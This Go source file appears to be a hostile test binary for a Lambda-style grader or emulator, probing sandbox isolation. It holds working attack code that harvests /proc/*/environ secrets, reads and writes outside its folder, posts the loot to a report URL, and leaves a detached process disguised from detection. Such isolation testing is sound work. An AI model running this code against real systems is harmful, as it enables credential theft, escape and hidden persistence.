// Command hostile is a Lambda bootstrap that attacks the machine grading
// it: on start it reads the files named in HOSTILE_READ, every process's
// environment it can see, and its own; writes to the paths in HOSTILE_WRITE
// and above its folder; posts what it got to HOSTILE_REPORT (a server on the
// grader's loopback) and keeps it in hostile-report.json in its own folder.
// With HOSTILE_DAEMON set it also leaves a process behind that outlives it
// (a new session and a fresh environment, sleeping forever). Then it answers every invocation with
// a 500.
package main

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

type report struct {
	Cwd     string            `json:"cwd"`
	Env     []string          `json:"env"`
	Reads   map[string]string `json:"reads"`
	Writes  map[string]string `json:"writes"`
	Environ map[string]string `json:"environ"` // /proc/<pid>/environ
	Root    []string          `json:"root"`
	Network string            `json:"network"` // what posting to HOSTILE_REPORT gave
	Limits  map[string]uint64 `json:"limits"`  // its resource limits (soft)
	Daemon  string            `json:"daemon"`  // whether it left a process behind
}

func split(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ";")
}

func attack() report {
	r := report{Env: os.Environ(), Reads: map[string]string{}, Writes: map[string]string{}, Environ: map[string]string{}}
	r.Cwd, _ = os.Getwd()
	for _, p := range split(os.Getenv("HOSTILE_READ")) {
		b, err := os.ReadFile(p)
		if err != nil {
			r.Reads[p] = "error: " + err.Error()
			continue
		}
		r.Reads[p] = string(b)
	}
	files, _ := filepath.Glob("/proc/*/environ")
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil {
			r.Environ[f] = string(bytes.ReplaceAll(b, []byte{0}, []byte{'\n'}))
		}
	}
	for _, p := range append(split(os.Getenv("HOSTILE_WRITE")), filepath.Join(r.Cwd, "..", "..", "..", "escaped")) {
		if err := os.WriteFile(p, []byte("pwned"), 0o644); err != nil {
			r.Writes[p] = "error: " + err.Error()
			continue
		}
		r.Writes[p] = "written"
	}
	r.Limits = map[string]uint64{}
	for name, res := range map[string]int{"CPU": syscall.RLIMIT_CPU, "AS": syscall.RLIMIT_AS, "FSIZE": syscall.RLIMIT_FSIZE, "NOFILE": syscall.RLIMIT_NOFILE} {
		var l syscall.Rlimit
		if syscall.Getrlimit(res, &l) == nil {
			r.Limits[name] = l.Cur
		}
	}
	if m := os.Getenv("HOSTILE_DAEMON"); m != "" {
		cmd := exec.Command(os.Args[0])
		cmd.Env = []string{"HOSTILE_DAEMON_CHILD=" + m} // nothing the local cloud could recognise it by
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			r.Daemon = "error: " + err.Error()
		} else {
			r.Daemon = "started"
		}
	}
	entries, _ := os.ReadDir("/")
	for _, e := range entries {
		r.Root = append(r.Root, e.Name())
	}
	return r
}

func main() {
	if os.Getenv("HOSTILE_DAEMON_CHILD") != "" {
		for {
			time.Sleep(time.Hour)
		}
	}
	r := attack()
	b, _ := json.Marshal(r)
	r.Network = "error: no HOSTILE_REPORT"
	if u := os.Getenv("HOSTILE_REPORT"); u != "" {
		resp, err := http.Post(u, "application/json", bytes.NewReader(b))
		if err != nil {
			r.Network = "error: " + err.Error()
		} else {
			r.Network = "posted: " + resp.Status
			resp.Body.Close()
		}
	}
	b, _ = json.Marshal(r)
	os.WriteFile("hostile-report.json", b, 0o644)
	api := "http://" + os.Getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/"
	for {
		resp, err := http.Get(api + "next")
		if err != nil {
			return
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		id := resp.Header.Get("Lambda-Runtime-Aws-Request-Id")
		out, err := http.Post(api+id+"/response", "application/json", strings.NewReader(`{"statusCode":500,"body":"hostile"}`))
		if err == nil {
			out.Body.Close()
		}
	}
}
